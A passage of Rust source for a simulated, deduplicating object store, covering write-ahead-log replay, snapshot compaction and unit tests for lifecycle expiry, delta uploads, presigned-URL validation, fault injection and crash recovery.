        store.attach_logs(main, chunk_wals);
        (store, recovery)
    }

    /// Apply one journaled mutation during replay. Returns how many
    /// objects were dropped (chunk bytes unavailable). `sharded` picks
    /// the chunk-reference semantics: chunk bytes pre-restored from
    /// per-shard lanes (refcounts re-derived in place, releases keep
    /// bytes) versus the legacy layout where bytes ride the `Put`
    /// records themselves.
    fn apply(
        &self,
        state: &mut StoreState,
        counters: &mut Counters,
        rec: StoreRecord,
        sharded: bool,
    ) -> u64 {
        let arena = &self.inner.arena;
        match rec {
            StoreRecord::CreateBucket { name, rule } => {
                state
                    .buckets
                    .entry(name)
                    .or_insert_with(|| BucketState { rule, objects: BTreeMap::new() });
                0
            }
            StoreRecord::Put {
                bucket,
                key,
                time_millis,
                manifest,
                new_chunks,
                user,
                wire_bytes,
                delta,
            } => {
                // The operation happened historically: reconstruct the
                // cumulative counters whether or not the object itself
                // survives.
                counters.puts += 1;
                counters.bytes_uploaded += manifest.total_len;
                counters.bytes_wire += wire_bytes;
                if delta {
                    counters.delta_puts += 1;
                }
                let by_digest: BTreeMap<u64, Bytes> = new_chunks.into_iter().collect();
                // Atomicity, as in put_delta: resolve every reference
                // (and the bucket) before mutating anything. A miss
                // means the bytes rode a WAL record that was dropped
                // as corrupt — the object is unreadable and must not
                // be installed.
                let resolvable = state.buckets.contains_key(&bucket)
                    && manifest
                        .chunks
                        .iter()
                        .all(|r| by_digest.contains_key(&r.digest) || arena.contains(r.digest));
                if !resolvable {
                    return 1;
                }
                for r in &manifest.chunks {
                    let mut shard = arena.lock(arena.shard_of(r.digest));
                    if sharded {
                        // Bytes normally live in the shard's lane
                        // already; a record that carried its own bytes
                        // (mixed-layout log) installs them first.
                        if !shard.contains(r.digest) {
                            if let Some(data) = by_digest.get(&r.digest) {
                                shard.restore_chunk(r.digest, data.clone());
                            }
                        }
                        shard
                            .retain_replay(r.digest)
                            .expect("availability verified above");
                    } else {
                        shard
                            .retain(r.digest, by_digest.get(&r.digest))
                            .expect("availability verified above");
                    }
                }
                let now = SimTime::from_millis(time_millis);
                let record = ObjRecord {
                    meta: ObjectMeta {
                        key: key.clone(),
                        size: manifest.total_len,
                        etag: manifest.etag.clone(),
                        uploaded_at: now,
                        last_used: now,
                        user,
                    },
                    manifest,
                };
                let b = state.buckets.get_mut(&bucket).expect("existence checked above");
                let prev = b.objects.insert(key, record);
                if let Some(prev) = prev {
                    self.release_manifest(&prev.manifest, sharded);
                }
                0
            }
            StoreRecord::Touch { bucket, key, time_millis, size } => {
                counters.gets += 1;
                counters.bytes_downloaded += size;
                if let Some(rec) = state
                    .buckets
                    .get_mut(&bucket)
                    .and_then(|b| b.objects.get_mut(&key))
                {
                    rec.meta.last_used = SimTime::from_millis(time_millis);
                }
                0
            }
            StoreRecord::Delete { bucket, key } => {
                counters.deletes += 1;
                if let Some(rec) =
                    state.buckets.get_mut(&bucket).and_then(|b| b.objects.remove(&key))
                {
                    self.release_manifest(&rec.manifest, sharded);
                }
                0
            }
            StoreRecord::Sweep { time_millis } => {
                let now = SimTime::from_millis(time_millis);
                let mut released: Vec<ChunkManifest> = Vec::new();
                for b in state.buckets.values_mut() {
                    let rule = b.rule;
                    let doomed: Vec<String> = b
                        .objects
                        .iter()
                        .filter(|(_, o)| {
                            rule.is_expired(o.meta.uploaded_at, o.meta.last_used, now)
                        })
                        .map(|(k, _)| k.clone())
                        .collect();
                    for k in doomed {
                        let rec = b.objects.remove(&k).expect("doomed key just listed");
                        released.push(rec.manifest);
                        counters.expired += 1;
                    }
                }
                for m in &released {
                    self.release_manifest(m, sharded);
                }
                0
            }
            StoreRecord::ChunkInstall { digest, bytes } => {
                // Chunk installs belong to the per-shard lanes; one in
                // the main log (mixed-layout history) still restores.
                arena.lock(arena.shard_of(digest)).restore_chunk(digest, bytes);
                0
            }
            StoreRecord::SnapshotStore { buckets, chunks, counters: snap } => {
                let mut dropped = 0u64;
                state.buckets.clear();
                if sharded {
                    // The physical payload was already restored from
                    // the chunk lanes in phase 1; discard whatever
                    // references pre-snapshot replay accumulated and
                    // re-derive them from the snapshot's manifests.
                    arena.reset_refs();
                } else {
                    arena.wipe();
                }
                for (digest, data) in chunks {
                    arena.lock(arena.shard_of(digest)).restore_chunk(digest, data);
                }
                for b in buckets {
                    let mut objects = BTreeMap::new();
                    for o in b.objects {
                        let resolvable =
                            o.manifest.chunks.iter().all(|r| arena.contains(r.digest));
                        if !resolvable {
                            dropped += 1;
                            continue;
                        }
                        for r in &o.manifest.chunks {
                            arena.lock(arena.shard_of(r.digest)).ref_existing(r.digest);
                        }
                        objects.insert(
                            o.meta.key.clone(),
                            ObjRecord { meta: o.meta, manifest: o.manifest },
                        );
                    }
                    state
                        .buckets
                        .insert(b.name, BucketState { rule: b.rule, objects });
                }
                arena.set_dedup_hits_total(snap.dedup_hits);
                *counters = Counters {
                    bytes_uploaded: snap.bytes_uploaded,
                    bytes_downloaded: snap.bytes_downloaded,
                    bytes_wire: snap.bytes_wire,
                    puts: snap.puts,
                    delta_puts: snap.delta_puts,
                    gets: snap.gets,
                    deletes: snap.deletes,
                    expired: snap.expired,
                };
                dropped
            }
        }
    }

    /// Compact the attached logs into snapshot records if any log's
    /// size warrants it (per [`rai_wal::DurabilityConfig`]). All lanes
    /// compact together — a snapshot is one consistent point, and the
    /// main-log snapshot's manifests must resolve against exactly the
    /// chunk set the lanes retain. Call only at quiesced points — the
    /// snapshot must not interleave with concurrent mutations. Returns
    /// whether a compaction ran.
    pub fn maybe_compact(&self) -> bool {
        let Some(wal) = self.inner.wal.read().clone() else {
            return false;
        };
        let chunk_wals = self.inner.chunk_wals.read().clone();
        if !wal.should_compact() && !chunk_wals.iter().any(|w| w.should_compact()) {
            return false;
        }
        let state = self.inner.state.read();
        let counters = self.inner.counters.read();
        let arena = &self.inner.arena;
        // Legacy layout: the snapshot record itself carries the
        // physical payload, digest-sorted (shard partitioning keeps
        // per-shard maps sorted; the merge just re-sorts the
        // concatenation). Sharded: the lanes carry it instead.
        let snap_chunks: Vec<(u64, Bytes)> = if chunk_wals.is_empty() {
            let mut all: Vec<(u64, Bytes)> = Vec::new();
            for i in 0..arena.shard_count() {
                all.extend(arena.lock(i).snapshot_chunks());
            }
            all.sort_by_key(|&(d, _)| d);
            all
        } else {
            Vec::new()
        };
        let (_, _, dedup_hits) = arena.totals();
        let snapshot = StoreRecord::SnapshotStore {
            buckets: state
                .buckets
                .iter()
                .map(|(name, b)| SnapBucket {
                    name: name.clone(),
                    rule: b.rule,
                    objects: b
                        .objects
                        .values()
                        .map(|o| SnapObject {
                            meta: o.meta.clone(),
                            manifest: o.manifest.clone(),
                        })
                        .collect(),
                })
                .collect(),
            chunks: snap_chunks,
            counters: SnapCounters {
                bytes_uploaded: counters.bytes_uploaded,
                bytes_downloaded: counters.bytes_downloaded,
                bytes_wire: counters.bytes_wire,
                puts: counters.puts,
                delta_puts: counters.delta_puts,
                gets: counters.gets,
                deletes: counters.deletes,
                expired: counters.expired,
                dedup_hits,
            },
        };
        wal.compact(std::iter::once(snapshot.encode()));
        for (i, cw) in chunk_wals.iter().enumerate() {
            let resident = arena.lock(i).snapshot_chunks();
            cw.compact(resident.into_iter().map(|(digest, bytes)| {
                StoreRecord::ChunkInstall { digest, bytes }.encode()
            }));
        }
        true
    }
}

/// What [`ObjectStore::recover`] reconstructed and what it had to
/// drop.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct StoreRecovery {
    /// Framing-layer replay statistics (records, corruption, torn
    /// bytes).
    pub stats: rai_wal::ReplayStats,
    /// Logical records applied.
    pub applied: u64,
    /// Records whose payload failed to decode (dropped, counted).
    pub malformed_dropped: u64,
    /// Objects discarded because their chunk bytes were lost with a
    /// corrupt record.
    pub objects_dropped: u64,
}

#[cfg(test)]
mod tests {
    use super::*;
    use rai_archive::chunk::chunk_bytes;
    use rai_sim::SimDuration;

    fn store() -> ObjectStore {
        let s = ObjectStore::new(VirtualClock::new());
        s.create_bucket("uploads", LifecycleRule::one_month_after_last_use())
            .unwrap();
        s.create_bucket("builds", LifecycleRule::AfterUpload(SimDuration::from_days(90)))
            .unwrap();
        s.create_bucket("keep", LifecycleRule::Keep).unwrap();
        s
    }

    /// Non-repeating payload so every chunk of it gets a distinct
    /// digest (uniform payloads dedup against themselves).
    fn varied(len: usize, seed: u64) -> Vec<u8> {
        let mut state = seed;
        (0..len)
            .map(|_| {
                state = state
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                (state >> 33) as u8
            })
            .collect()
    }

    #[test]
    fn put_get_round_trip() {
        let s = store();
        let etag = s.put("uploads", "team1/proj.tar", &b"bytes"[..], []).unwrap();
        let obj = s.get("uploads", "team1/proj.tar").unwrap();
        assert_eq!(obj.data.as_ref(), b"bytes");
        assert_eq!(obj.meta.etag, etag);
        assert_eq!(obj.meta.size, 5);
    }

    #[test]
    fn missing_bucket_and_key() {
        let s = store();
        assert!(matches!(
            s.put("nope", "k", &b""[..], []),
            Err(StoreError::NoSuchBucket(_))
        ));
        assert!(matches!(
            s.get("uploads", "missing"),
            Err(StoreError::NoSuchKey { .. })
        ));
        assert!(matches!(
            s.delete("uploads", "missing"),
            Err(StoreError::NoSuchKey { .. })
        ));
        assert!(matches!(
            s.create_bucket("keep", LifecycleRule::Keep),
            Err(StoreError::BucketExists(_))
        ));
    }

    #[test]
    fn overwrite_replaces_content() {
        let s = store();
        s.put("uploads", "k", &b"v1"[..], []).unwrap();
        s.put("uploads", "k", &b"v2!"[..], []).unwrap();
        assert_eq!(s.get("uploads", "k").unwrap().data.as_ref(), b"v2!");
        assert_eq!(s.usage().objects, 1);
        assert_eq!(s.usage().bytes_uploaded, 5, "uploads accumulate");
        assert_eq!(s.usage().bytes_stored, 3, "stored reflects current");
        assert_eq!(s.usage().bytes_physical, 3, "old chunks released");
    }

    #[test]
    fn list_by_prefix_is_ordered() {
        let s = store();
        s.put("uploads", "team2/a", &b""[..], []).unwrap();
        s.put("uploads", "team1/b", &b""[..], []).unwrap();
        s.put("uploads", "team1/a", &b""[..], []).unwrap();
        let keys: Vec<String> = s
            .list("uploads", "team1/")
            .unwrap()
            .into_iter()
            .map(|m| m.key)
            .collect();
        assert_eq!(keys, vec!["team1/a", "team1/b"]);
        assert_eq!(s.list("uploads", "").unwrap().len(), 3);
    }

    #[test]
    fn user_metadata_preserved() {
        let s = store();
        s.put(
            "uploads",
            "k",
            &b""[..],
            [("team".to_string(), "rust".to_string())],
        )
        .unwrap();
        let meta = s.head("uploads", "k").unwrap();
        assert_eq!(meta.user.get("team").map(String::as_str), Some("rust"));
    }

    #[test]
    fn lifecycle_after_upload() {
        let s = store();
        s.put("builds", "old", &b"x"[..], []).unwrap();
        s.clock().advance(SimDuration::from_days(91));
        s.put("builds", "new", &b"y"[..], []).unwrap();
        assert_eq!(s.sweep_lifecycle(), 1);
        assert!(s.get("builds", "old").is_err());
        assert!(s.get("builds", "new").is_ok());
        assert_eq!(s.usage().expired, 1);
    }

    #[test]
    fn lifecycle_last_use_refresh_keeps_object_alive() {
        let s = store();
        s.put("uploads", "proj", &b"x"[..], []).unwrap();
        // Touch it every 20 days for 100 days — survives a 30-day rule.
        for _ in 0..5 {
            s.clock().advance(SimDuration::from_days(20));
            s.get("uploads", "proj").unwrap();
            assert_eq!(s.sweep_lifecycle(), 0);
        }
        // Then go idle for 31 days.
        s.clock().advance(SimDuration::from_days(31));
        assert_eq!(s.sweep_lifecycle(), 1);
    }

    #[test]
    fn head_does_not_refresh_last_use() {
        let s = store();
        s.put("uploads", "proj", &b"x"[..], []).unwrap();
        s.clock().advance(SimDuration::from_days(29));
        s.head("uploads", "proj").unwrap();
        s.clock().advance(SimDuration::from_days(2));
        assert_eq!(s.sweep_lifecycle(), 1, "head must not reset the clock");
    }

    #[test]
    fn usage_counters() {
        let s = store();
        s.put("keep", "a", vec![0u8; 100], []).unwrap();
        s.put("keep", "b", vec![0u8; 50], []).unwrap();
        s.get("keep", "a").unwrap();
        s.delete("keep", "b").unwrap();
        let u = s.usage();
        assert_eq!(u.puts, 2);
        assert_eq!(u.gets, 1);
        assert_eq!(u.deletes, 1);
        assert_eq!(u.bytes_uploaded, 150);
        assert_eq!(u.bytes_downloaded, 100);
        assert_eq!(u.bytes_stored, 100);
        assert_eq!(u.objects, 1);
    }

    #[test]
    fn identical_payloads_share_chunks() {
        let s = store();
        let payload = varied(4000, 7);
        s.put("keep", "a", payload.clone(), []).unwrap();
        s.put("keep", "b", payload.clone(), []).unwrap();
        s.put("uploads", "c", payload.clone(), []).unwrap();
        let u = s.usage();
        assert_eq!(u.bytes_stored, 12_000, "logical triples");
        assert_eq!(u.bytes_physical, 4_000, "physical stays one copy");
        assert!(u.chunks_dedup_total > 0);
        // Every copy reads back intact.
        assert_eq!(s.get("keep", "b").unwrap().data.as_ref(), &payload[..]);
        assert_eq!(s.get("uploads", "c").unwrap().data.as_ref(), &payload[..]);
    }

    #[test]
    fn delete_frees_chunks_only_at_last_reference() {
        let s = store();
        let payload = varied(2000, 13);
        s.put("keep", "a", payload.clone(), []).unwrap();
        s.put("keep", "b", payload.clone(), []).unwrap();
        s.delete("keep", "a").unwrap();
        let u = s.usage();
        assert_eq!(u.bytes_physical, 2000, "b still references the chunks");
        assert_eq!(s.get("keep", "b").unwrap().data.as_ref(), &payload[..]);
        s.delete("keep", "b").unwrap();
        let u = s.usage();
        assert_eq!(u.bytes_physical, 0);
        assert_eq!(u.chunks, 0);
    }

    #[test]
    fn expiry_spares_chunks_shared_with_live_objects() {
        let s = store();
        let payload = varied(3000, 17);
        // One copy in a bucket that expires, one in a bucket that keeps.
        s.put("builds", "doomed", payload.clone(), []).unwrap();
        s.put("keep", "survivor", payload.clone(), []).unwrap();
        s.clock().advance(SimDuration::from_days(91));
        assert_eq!(s.sweep_lifecycle(), 1);
        let u = s.usage();
        assert_eq!(u.objects, 1);
        assert_eq!(u.bytes_physical, 3000, "shared chunks must survive expiry");
        assert_eq!(
            s.get("keep", "survivor").unwrap().data.as_ref(),
            &payload[..],
            "survivor still reassembles after the sweep"
        );
        // Once the survivor goes too, the chunks are actually freed.
        s.delete("keep", "survivor").unwrap();
        assert_eq!(s.usage().bytes_physical, 0);
    }

    #[test]
    fn has_chunks_reports_residency() {
        let s = store();
        let payload = vec![5u8; 1000];
        let (manifest, _) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        let flags = s.has_chunks(&manifest.digests()).unwrap();
        assert!(flags.iter().all(|&f| !f), "nothing resident yet");
        s.put("keep", "a", payload, []).unwrap();
        let flags = s.has_chunks(&manifest.digests()).unwrap();
        assert!(flags.iter().all(|&f| f), "all resident after put");
    }

    #[test]
    fn put_delta_round_trips_and_saves_wire_bytes() {
        let s = store();
        let payload = varied(5000, 1);
        let (manifest, chunks) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        // First upload must carry everything.
        let etag = s.put_delta("keep", "a", &manifest, &chunks, []).unwrap();
        assert_eq!(s.get("keep", "a").unwrap().data.as_ref(), &payload[..]);
        assert_eq!(s.get("keep", "a").unwrap().meta.etag, etag);
        // Second upload of the same content: manifest only.
        s.put_delta("keep", "b", &manifest, &[], []).unwrap();
        assert_eq!(s.get("keep", "b").unwrap().data.as_ref(), &payload[..]);
        let u = s.usage();
        assert_eq!(u.delta_puts, 2);
        assert_eq!(u.bytes_uploaded, 10_000, "logical counts both");
        assert_eq!(
            u.bytes_wire,
            5_000 + 2 * manifest.encoded_len(),
            "second upload ships the manifest only, no chunk bytes"
        );
        assert_eq!(u.bytes_physical, 5_000);
    }

    #[test]
    fn put_delta_missing_chunks_is_atomic() {
        let s = store();
        let payload = varied(4000, 2);
        let (manifest, chunks) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        assert!(manifest.chunks.len() >= 2, "payload must span chunks");
        // Send all but one chunk against an empty store.
        let partial = &chunks[1..];
        let err = s.put_delta("keep", "a", &manifest, partial, []).unwrap_err();
        match err {
            StoreError::MissingChunks { missing } => {
                assert_eq!(missing, vec![chunks[0].digest]);
            }
            other => panic!("expected MissingChunks, got {other:?}"),
        }
        // Nothing was stored, nothing leaked.
        let u = s.usage();
        assert_eq!(u.objects, 0);
        assert_eq!(u.bytes_physical, 0);
        assert_eq!(u.chunks, 0);
        assert!(s.get("keep", "a").is_err());
    }

    #[test]
    fn put_delta_rejects_corrupt_chunks() {
        let s = store();
        let payload = vec![4u8; 1000];
        let (manifest, mut chunks) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        chunks[0].data = Bytes::copy_from_slice(b"not the real bytes");
        assert!(matches!(
            s.put_delta("keep", "a", &manifest, &chunks, []),
            Err(StoreError::DeltaMismatch { .. })
        ));
        let mut bad = manifest.clone();
        bad.total_len += 1;
        assert!(matches!(
            s.put_delta("keep", "a", &bad, &[], []),
            Err(StoreError::DeltaMismatch { .. })
        ));
    }

    #[test]
    fn pool_executor_store_matches_sequential() {
        // Big enough to cross both PAR_CHUNK_MIN_BYTES (server-side
        // put chunking) and PAR_VERIFY_MIN_BYTES (delta pre-hash), so
        // the pool paths actually run.
        let payload = varied(100_000, 9);
        let (manifest, chunks) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        let reference = {
            let s = store();
            let etag = s.put("keep", "whole", payload.clone(), []).unwrap();
            let detag = s.put_delta("keep", "delta", &manifest, &chunks, []).unwrap();
            (etag, detag, s.usage())
        };
        for threads in [2, 8] {
            let s = store();
            s.set_executor(Executor::new(threads));
            let etag = s.put("keep", "whole", payload.clone(), []).unwrap();
            let detag = s.put_delta("keep", "delta", &manifest, &chunks, []).unwrap();
            assert_eq!(
                (etag, detag, s.usage()),
                reference,
                "store accounting drift at threads={threads}"
            );
            assert_eq!(s.get("keep", "delta").unwrap().data.as_ref(), &payload[..]);
            // Corruption is still rejected on the pre-hashed path
            // (fresh store: the chunk must not already be resident,
            // or its provided bytes would be ignored by design).
            let fresh = store();
            fresh.set_executor(Executor::new(threads));
            let mut bad = chunks.clone();
            bad[0].data = Bytes::from(vec![0xAB; bad[0].data.len()]);
            assert!(matches!(
                fresh.put_delta("keep", "x", &manifest, &bad, []),
                Err(StoreError::DeltaMismatch { .. })
            ));
        }
    }

    #[test]
    fn presigned_url_round_trip_and_expiry() {
        let s = store();
        s.put("keep", "build.tar", &b"artifact"[..], []).unwrap();
        let url = s.presign("keep", "build.tar", SimTime::ZERO + SimDuration::from_days(7));
        assert!(url.starts_with("rai-s3://keep/build.tar?"));
        assert_eq!(s.get_presigned(&url).unwrap().data.as_ref(), b"artifact");
        // Tampered key fails.
        let tampered = url.replace("build.tar", "other.tar");
        assert_eq!(s.get_presigned(&tampered), Err(StoreError::BadPresignedUrl));
        // Tampered expiry fails (signature covers it).
        let extended = url.replace("expires=", "expires=9");
        assert_eq!(s.get_presigned(&extended), Err(StoreError::BadPresignedUrl));
        // Garbage fails.
        assert_eq!(s.get_presigned("http://nope"), Err(StoreError::BadPresignedUrl));
        // After expiry it stops working.
        s.clock().advance(SimDuration::from_days(8));
        assert_eq!(s.get_presigned(&url), Err(StoreError::BadPresignedUrl));
    }

    #[test]
    fn presigned_urls_differ_across_stores() {
        let a = store();
        let b = store();
        a.put("keep", "k", &b"x"[..], []).unwrap();
        b.put("keep", "k", &b"x"[..], []).unwrap();
        let url_a = a.presign("keep", "k", SimTime::ZERO + SimDuration::from_days(1));
        assert!(b.get_presigned(&url_a).is_err(), "cross-store URLs must not validate");
    }

    #[test]
    fn fault_injection_fails_then_recovers() {
        let s = store();
        s.put("keep", "k", &b"v"[..], []).unwrap();
        s.inject_faults(2);
        assert_eq!(s.get("keep", "k"), Err(StoreError::Unavailable));
        assert_eq!(s.put("keep", "k2", &b"v"[..], []), Err(StoreError::Unavailable));
        // Budget exhausted: service recovers.
        assert!(s.get("keep", "k").is_ok());
        assert!(s.put("keep", "k2", &b"v"[..], []).is_ok());
    }

    #[test]
    fn seeded_injector_fails_ops_reproducibly() {
        let run = || {
            let s = store();
            s.set_fault_injector(rai_faults::FaultInjector::new(rai_faults::FaultPlan {
                store_put: 0.2,
                store_get: 0.2,
                ..rai_faults::FaultPlan::none(5)
            }));
            let mut outcomes = Vec::new();
            for i in 0..100 {
                outcomes.push(s.put("keep", &format!("k{i}"), &b"v"[..], []).is_err());
                outcomes.push(s.get("keep", &format!("k{i}")).is_err());
            }
            outcomes
        };
        let a = run();
        let b = run();
        assert_eq!(a, b, "same seed, same fault stream");
        assert!(a.iter().any(|&e| e), "p=0.2 over 200 ops should fire");
        assert!(a.iter().any(|&e| !e), "and should not fire every time");
    }

    fn durable_store(config: rai_wal::DurabilityConfig) -> (ObjectStore, rai_wal::MemDisk) {
        let disk = rai_wal::MemDisk::new();
        let wal = rai_wal::Wal::open(Arc::new(disk.clone()), config);
        let s = ObjectStore::new(VirtualClock::new());
        // Attach before the first mutation so the log covers the
        // store's whole history, bucket creation included.
        s.attach_wal(wal);
        s.create_bucket("uploads", LifecycleRule::one_month_after_last_use())
            .unwrap();
        s.create_bucket("builds", LifecycleRule::AfterUpload(SimDuration::from_days(90)))
            .unwrap();
        s.create_bucket("keep", LifecycleRule::Keep).unwrap();
        (s, disk)
    }

    fn reopen(disk: &rai_wal::MemDisk, clock: VirtualClock) -> (ObjectStore, StoreRecovery) {
        let wal = rai_wal::Wal::open(
            Arc::new(disk.clone()),
            rai_wal::DurabilityConfig::durable(),
        );
        ObjectStore::recover(clock, wal)
    }

    fn fingerprint(s: &ObjectStore) -> (StoreUsage, Vec<(String, Vec<ObjectMeta>)>) {
        let listings = ["builds", "keep", "uploads"]
            .iter()
            .filter(|b| s.has_bucket(b))
            .map(|b| (b.to_string(), s.list(b, "").unwrap()))
            .collect();
        (s.usage(), listings)
    }

    #[test]
    fn recover_replays_to_identical_state() {
        let (s, disk) = durable_store(rai_wal::DurabilityConfig::durable());
        let payload = varied(5000, 21);
        s.put("uploads", "team1/proj.tar", payload.clone(), []).unwrap();
        // Identical re-upload via delta: exercises dedup in the log
        // (the second Put journals zero new chunk bytes).
        let (manifest, chunks) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        s.put_delta("keep", "copy", &manifest, &chunks, []).unwrap();
        s.put("builds", "b1", varied(800, 22), [("job".into(), "42".into())])
            .unwrap();
        s.clock().advance(SimDuration::from_days(10));
        s.get("uploads", "team1/proj.tar").unwrap();
        s.put("builds", "b1", varied(900, 23), []).unwrap(); // overwrite
        s.put("builds", "gone", &b"x"[..], []).unwrap();
        s.delete("builds", "gone").unwrap();
        s.clock().advance(SimDuration::from_days(95));
        assert!(s.sweep_lifecycle() > 0, "builds + stale uploads expire");
        s.sync_wal();

        let clock = VirtualClock::new();
        clock.advance(SimDuration::from_days(105));
        let (r, recovery) = reopen(&disk, clock);
        assert_eq!(recovery.stats.corrupt_dropped, 0);
        assert_eq!(recovery.malformed_dropped, 0);
        assert_eq!(recovery.objects_dropped, 0);
        assert!(recovery.applied > 0);
        assert_eq!(fingerprint(&r), fingerprint(&s), "replayed state must be identical");
        assert_eq!(
            r.get("keep", "copy").unwrap().data.as_ref(),
            &payload[..],
            "payloads reassemble from replayed chunks"
        );

        // The recovered store keeps journaling: mutate, reopen again.
        r.put("keep", "after", &b"post-recovery"[..], []).unwrap();
        r.sync_wal();
        let (r2, _) = reopen(&disk, VirtualClock::new());
        assert_eq!(fingerprint(&r2), fingerprint(&r));
        assert_eq!(r2.get("keep", "after").unwrap().data.as_ref(), b"post-recovery");
    }

    #[test]
    fn store_compaction_preserves_state_and_shrinks_log() {
        let disk = rai_wal::MemDisk::new();
        let wal = rai_wal::Wal::open(
            Arc::new(disk.clone()),
            rai_wal::DurabilityConfig {
                compact_min_bytes: 1,
                compact_factor: 2,
                ..rai_wal::DurabilityConfig::durable()
            },
        );
        let s = ObjectStore::new(VirtualClock::new());
        s.attach_wal(wal);
        s.create_bucket("keep", LifecycleRule::Keep).unwrap();
        // Overwrite one key many times: the log accumulates dead puts
        // the snapshot does not carry.
        for i in 0..50u64 {
            s.put("keep", "hot", varied(1200, i), []).unwrap();
        }
        s.sync_wal();
        let before = disk.total_bytes();
        assert!(s.maybe_compact(), "50 dead overwrites must trip the threshold");
        let after = disk.total_bytes();
        assert!(
            after * 4 < before,
            "snapshot should be far smaller than the log ({after} vs {before})"
        );
        let (r, recovery) = reopen(&disk, VirtualClock::new());
        assert_eq!(recovery.objects_dropped, 0);
        assert_eq!(fingerprint(&r), fingerprint(&s));
        assert_eq!(
            r.get("keep", "hot").unwrap().data,
            s.get("keep", "hot").unwrap().data
        );
    }

    #[test]
    fn torn_tail_loses_only_unsynced_puts() {
        let (s, disk) = durable_store(rai_wal::DurabilityConfig::durable());
        let a = varied(2000, 31);
        s.put("keep", "synced", a.clone(), []).unwrap();
        s.sync_wal();
        s.put("keep", "unsynced", varied(2000, 32), []).unwrap();
        let profile = rai_faults::DiskFaultProfile {
            torn_tail: 1.0,
            ..rai_faults::DiskFaultProfile::none(9)
        };
        let faults = disk.crash_with(&profile, 0);
        assert!(!faults.is_empty(), "profile guarantees a torn tail");
        let (r, recovery) = reopen(&disk, VirtualClock::new());
        assert!(
            recovery.stats.torn_bytes > 0 || recovery.stats.corrupt_dropped > 0,
            "the tear must be detected, not silently accepted"
        );
        assert_eq!(
            r.get("keep", "synced").unwrap().data.as_ref(),
            &a[..],
            "synced object survives intact"
        );
        let objects = r.usage().objects;
        assert!(objects == 1 || objects == 2, "unsynced put may or may not survive");
        // Whatever survived is fully readable.
        for meta in r.list("keep", "").unwrap() {
            r.get("keep", &meta.key).unwrap();
        }
    }

    #[test]
    fn replay_drops_objects_whose_chunk_bytes_were_lost() {
        let disk = rai_wal::MemDisk::new();
        let wal = rai_wal::Wal::open(
            Arc::new(disk.clone()),
            rai_wal::DurabilityConfig::durable(),
        );
        let payload = varied(3000, 41);
        let (manifest, _) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        wal.append(
            &StoreRecord::CreateBucket { name: "keep".into(), rule: LifecycleRule::Keep }
                .encode(),
        );
        // A dedup'd Put whose chunk bytes rode an earlier record that
        // was dropped as corrupt: nothing in the log carries the bytes.
        wal.append(
            &StoreRecord::Put {
                bucket: "keep".into(),
                key: "orphan".into(),
                time_millis: 0,
                manifest,
                new_chunks: Vec::new(),
                user: BTreeMap::new(),
                wire_bytes: 0,
                delta: true,
            }
            .encode(),
        );
        wal.sync();
        let (r, recovery) = reopen(&disk, VirtualClock::new());
        assert_eq!(recovery.objects_dropped, 1, "unreadable object must be dropped");
        assert_eq!(r.usage().objects, 0);
        assert_eq!(r.usage().bytes_physical, 0, "no orphaned chunks linger");
        // The store stays fully functional.
        r.put("keep", "fresh", &b"ok"[..], []).unwrap();
        assert_eq!(r.get("keep", "fresh").unwrap().data.as_ref(), b"ok");
    }

    // ---- sharded arena and sharded-durable layout --------------------

    fn store_with_shards(shards: usize) -> ObjectStore {
        let s = ObjectStore::with_shards(VirtualClock::new(), shards);
        s.create_bucket("uploads", LifecycleRule::one_month_after_last_use())
            .unwrap();
        s.create_bucket("builds", LifecycleRule::AfterUpload(SimDuration::from_days(90)))
            .unwrap();
        s.create_bucket("keep", LifecycleRule::Keep).unwrap();
        s
    }

    /// A workload exercising every chunk-lifecycle transition replay
    /// must reproduce: dedup'd delta puts, overwrites, deletes, expiry,
    /// and — the subtle one — content re-admitted after its last
    /// reference died (live, the bytes are freed and re-uploaded; in
    /// sharded replay they stay resident at refcount zero).
    fn sharded_workload(s: &ObjectStore) {
        let payload = varied(5000, 77);
        s.put("uploads", "team/proj.tar", payload.clone(), []).unwrap();
        let (manifest, chunks) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        s.put_delta("keep", "copy", &manifest, &chunks, []).unwrap();
        for i in 0..8u64 {
            s.put("builds", &format!("b{i}"), varied(1500 + i as usize * 37, i), [])
                .unwrap();
        }
        s.put("builds", "b3", varied(900, 103), []).unwrap(); // overwrite
        s.delete("keep", "copy").unwrap();
        s.delete("uploads", "team/proj.tar").unwrap();
        s.put("keep", "reborn", payload, []).unwrap();
        s.clock().advance(SimDuration::from_days(95));
        s.sweep_lifecycle();
    }

    fn durable_sharded(shards: usize) -> (ObjectStore, rai_wal::MemDisk) {
        let disk = rai_wal::MemDisk::new();
        let (main, lanes) = ObjectStore::open_store_logs(
            Arc::new(disk.clone()),
            rai_wal::DurabilityConfig::durable(),
            shards,
        );
        let s = ObjectStore::with_shards(VirtualClock::new(), shards);
        s.attach_logs(main, lanes);
        s.create_bucket("uploads", LifecycleRule::one_month_after_last_use())
            .unwrap();
        s.create_bucket("builds", LifecycleRule::AfterUpload(SimDuration::from_days(90)))
            .unwrap();
        s.create_bucket("keep", LifecycleRule::Keep).unwrap();
        (s, disk)
    }

    fn reopen_sharded(
        disk: &rai_wal::MemDisk,
        shards: usize,
        clock: VirtualClock,
    ) -> (ObjectStore, StoreRecovery) {
        let (main, lanes) = ObjectStore::open_store_logs(
            Arc::new(disk.clone()),
            rai_wal::DurabilityConfig::durable(),
            shards,
        );
        ObjectStore::recover_sharded(clock, main, lanes)
    }

    #[test]
    fn presence_reads_take_no_write_locks() {
        let s = store_with_shards(4);
        let payload = varied(5000, 7);
        s.put("uploads", "team/proj.tar", payload.clone(), []).unwrap();
        let (manifest, _) = chunk_bytes(&payload, ChunkerParams::DEFAULT);
        let mut digests: Vec<u64> = manifest.chunks.iter().map(|r| r.digest).collect();
        digests.push(0xdead_beef_dead_beef); // absent digest probes the same path
        let writes_before = s.inner.arena.write_acquisitions();
        let reads_before = s.inner.arena.read_acquisitions();
        let flags = s.has_chunks(&digests).unwrap();
        assert!(flags[..flags.len() - 1].iter().all(|&f| f));
        assert!(!flags[flags.len() - 1]);
        assert_eq!(
